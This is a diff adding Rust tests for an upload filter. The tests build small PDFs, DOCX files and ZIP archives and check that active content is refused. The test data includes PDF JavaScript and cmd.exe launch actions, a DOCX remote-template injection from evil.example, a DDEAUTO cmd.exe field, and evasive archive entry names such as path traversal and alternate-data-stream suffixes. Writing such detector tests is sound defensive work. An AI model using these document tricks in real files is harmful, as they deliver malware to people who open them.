@@ -266,3 +266,68 @@ fn what_would_take_too_much_to_draw_is_refused_by_its_head() {
     // As many in eight bits would be drawn; here there is nothing to draw.
     assert!(matches!(refused(20_000, 3_200, 8, COLOURS), Refusal::Broken { .. }));
 }
+
+/// A PDF of one page whose catalog says this too.
+fn pdf_saying(more: &str) -> Vec<u8> {
+    let objects = [
+        format!("<< /Type /Catalog /Pages 2 0 R {more} >>"),
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
+        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>".to_owned(),
+    ];
+    let mut out = String::from("%PDF-1.4\n");
+    let mut places = Vec::new();
+    for (n, object) in objects.iter().enumerate() {
+        places.push(out.len());
+        out.push_str(&format!("{} 0 obj\n{object}\nendobj\n", n + 1));
+    }
+    let start = out.len();
+    out.push_str(&format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1));
+    places.iter().for_each(|p| out.push_str(&format!("{p:010} 00000 n \n")));
+    out.push_str(&format!(
+        "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n",
+        objects.len() + 1
+    ));
+    out.into_bytes()
+}
+
+#[test]
+fn what_runs_or_is_carried_along_when_a_document_is_opened_is_not_taken() {
+    assert!(take("空白.pdf", &pdf_saying("")).is_ok(), "a plain one is");
+    assert!(
+        take("到第一页.pdf", &pdf_saying("/OpenAction [3 0 R /Fit]")).is_ok(),
+        "a place to begin runs nothing"
+    );
+    for more in [
+        "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
+        "/OpenAction << /S /Launch /F (cmd.exe) >>",
+        "/Names << /EmbeddedFiles << /Names [] >> >>",
+    ] {
+        assert!(matches!(take("通知.pdf", &pdf_saying(more)), Err(Refusal::Active { .. })), "{more}");
+    }
+    let mut two = pdf_saying("");
+    two.extend(zipped(&[("a.exe", b"MZ")]));
+    assert!(matches!(take("两样.pdf", &two), Err(Refusal::Active { .. })), "an archive behind a PDF");
+
+    let docx = |more: &[(&str, &[u8])]| {
+        let mut parts: Vec<(&str, &[u8])> =
+            vec![("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")];
+        parts.retain(|(name, _)| more.iter().all(|(n, _)| n != name));
+        parts.extend(more);
+        take("记录.docx", &zipped(&parts))
+    };
+    let template: &[u8] = br#"<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
+    let link: &[u8] = br#"<Relationships><Relationship Type="http://x/hyperlink" Target="http://www.example.cn" TargetMode="External"/></Relationships>"#;
+    let dde: &[u8] = br#"<w:document><w:instrText>DDEAUTO c:\\windows\\cmd.exe</w:instrText></w:document>"#;
+    assert!(matches!(docx(&[("word/_rels/settings.xml.rels", template)]), Err(Refusal::Active { .. })));
+    assert!(matches!(docx(&[("word/embeddings/oleObject1.bin", b"x")]), Err(Refusal::Active { .. })));
+    assert!(matches!(docx(&[("word/document.xml", dde)]), Err(Refusal::Active { .. })));
+    assert!(
+        !matches!(docx(&[("word/_rels/document.xml.rels", link)]), Err(Refusal::Active { .. })),
+        "a link to a page"
+    );
+
+    for name in ["a.vbs.", "a.vbs::$DATA", "a.xll", "a.library-ms", "a.svg", "../../x.txt", "没有后缀"] {
+        assert!(take("材料.zip", &zipped(&[("好.txt", b"1"), (name, b"x")])).is_err(), "{name}");
+    }
+    assert!(take("材料.zip", &zipped(&[("好.txt", b"1"), ("照片/.DS_Store", b"x")])).is_ok());
+}
